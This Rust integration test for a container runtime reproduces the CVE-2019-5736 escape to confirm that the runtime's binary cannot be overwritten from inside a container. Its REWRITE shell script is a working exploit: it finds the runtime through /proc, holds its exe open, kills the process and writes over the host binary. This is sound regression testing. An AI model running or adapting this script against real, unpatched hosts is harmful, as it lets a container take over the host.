//! The runtime's own program.

use std::fs;

use hafen_integration::{Case, Oci, Test, cases};

use super::{beside, folder, volume, weakened};

pub(super) fn trials() -> Vec<Case> {
    cases![cve_2019_5736_the_runtime_is_not_rewritten_from_inside(Root, Busybox, Weaken)]
}

/// Finds the runtime's program as somebody's `/proc/PID/exe`, holds it, ends whoever runs it, and writes to it.
const REWRITE: &str = r#"
    while [ -z "$p" ]; do
        for p in /proc/[0-9]* ""; do
            case "$(readlink $p/exe 2>/dev/null)" in ""|*/busybox) ;; *) break;; esac
        done
    done
    exec 5<$p/exe
    kill -9 ${p#/proc/}
    n=0
    until (printf REWRITTEN >/proc/self/fd/5) 2>/vol/why; do
        n=$((n+1)); [ $n = 200 ] && break
        grep -q 'busy' /vol/why || break
        sleep 0.02
    done
    echo done >/vol/done; sleep 300
"#;

/// The container's program is `/proc/self/exe`: the runtime once more, now with everything that its own containers have.
/// A neighbour of the same pod takes it from there. The log is a fifo that nobody reads, so that it stays.
fn cve_2019_5736_the_runtime_is_not_rewritten_from_inside(t: &Test) {
    assert_eq!(attack(t, &t.oci()), (false, true), "with the defence");
    assert_eq!(attack(t, &weakened(t, "self-exe")), (true, false), "without it");
}

/// Whether the program on the host was rewritten, and whether that was refused because it is read-only.
fn attack(t: &Test, oci: &Oci) -> (bool, bool) {
    let shared = folder(t, "shared");
    let program = t.dir().join("program");
    fs::copy(oci.program(), &program).expect("copy the program");
    let (neighbour, id) = (t.id(), t.id());
    let bundle = t.bundle().sh(REWRITE).push("/mounts", volume(&shared, "/vol"));
    let _ = oci.create(&neighbour, &bundle).ok();
    let pid = oci.pid(&neighbour);
    let _ = oci.start(&neighbour).ok();

    let fifo = ["/proc/self/exe", "--log", "/vol/fifo", "state", "nobody"];
    let bundle = beside(t.bundle().args(fifo).push("/mounts", volume(&shared, "/vol")), pid);
    nix::unistd::mkfifo(&shared.join("fifo"), nix::sys::stat::Mode::S_IRWXU).expect("mkfifo");
    let output = oci.with_program(&program).run(&id, &bundle);
    let done = hafen_integration::wait_until(std::time::Duration::from_secs(10), || {
        shared.join("done").exists().then_some(())
    });
    let why = fs::read_to_string(shared.join("why")).unwrap_or_default();
    let rewritten = fs::read(&program).expect("read the program").starts_with(b"REWRITTEN");
    let _ = oci.delete_force(&neighbour).ok();
    assert!(done.is_some(), "the neighbour never came to its end: {why}, {output}");
    for file in ["fifo", "done", "why"] {
        let _ = fs::remove_file(shared.join(file));
    }
    (rewritten, why.contains("Read-only file system"))
}
